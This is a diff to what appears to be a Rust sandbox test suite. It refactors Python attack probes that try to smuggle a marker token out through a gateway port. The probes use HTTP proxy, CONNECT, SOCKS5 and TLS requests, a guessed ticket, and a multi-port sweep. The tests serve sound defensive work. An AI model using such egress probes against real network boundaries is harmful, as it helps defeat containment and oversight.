@@ -32,12 +32,29 @@ def many():
         list(pool.map(lambda p: tcp(SINK4, p), (80, 443, 22, 53, 8080, 47081) * 8))",
     ),
 ];
+/// A script that has `gateway()`, which connects to the gateway's port.
+macro_rules! to_the_gateway {
+    ($script:literal) => {
+        concat!(
+            $script,
+            r"def gateway():
+    where = os.environ['GATEWAY'].split(':')
+    if where[0] != 'vsock':
+        return to(where[0], int(where[1]))
+    s = socket.socket(socket.AF_VSOCK)
+    s.settimeout(20)
+    s.connect((int(where[1]), int(where[2])))
+    return s"
+        )
+    };
+}
 /// What goes to the gateway's port, where the wall lets it through: no control, since nothing lies behind it.
 const AT_THE_GATEWAY: &[Attack] = &[
     only_there(
         "M10",
         "the gateway's port as a web server, and as a proxy",
-        r"each(lambda r: port(r),
+        to_the_gateway!(
+            r"each(lambda r: port(r),
     b'GET http://allowed.example/%s HTTP/1.1\r\nhost: allowed.example\r\n\r\n', b'CONNECT allowed.example:443 HTTP/1.1\r\n\r\n%s', b'\5\1\0%s', b'\x16\3\1\0\x40%s')
 def port(r):
     with gateway() as s:
@@ -45,33 +62,22 @@ def port(r):
         s.sendall(r.replace(b'%s', T.encode()).ljust(64, b'\0'))
         if not s.recv(1):
             raise Denied('closed')
-def gateway():
-    where = os.environ['GATEWAY'].split(':')
-    if where[0] != 'vsock':
-        return to(where[0], int(where[1]))
-    s = socket.socket(socket.AF_VSOCK)
-    s.settimeout(20)
-    s.connect((int(where[1]), int(where[2])))
-    return s",
+"
+        ),
     ),
     only_there(
         "M11",
         "a ticket that was guessed",
-        r"once(lambda: port())
+        to_the_gateway!(
+            r"once(lambda: port())
 def port():
     with gateway() as s:
         s.settimeout(20)
         s.sendall(b'rcc\1\1' + bytes(27) + T.encode().ljust(32)[:32])
         if not s.recv(1):
             raise Denied('closed')
-def gateway():
-    where = os.environ['GATEWAY'].split(':')
-    if where[0] != 'vsock':
-        return to(where[0], int(where[1]))
-    s = socket.socket(socket.AF_VSOCK)
-    s.settimeout(20)
-    s.connect((int(where[1]), int(where[2])))
-    return s",
+"
+        ),
     ),
 ];
 
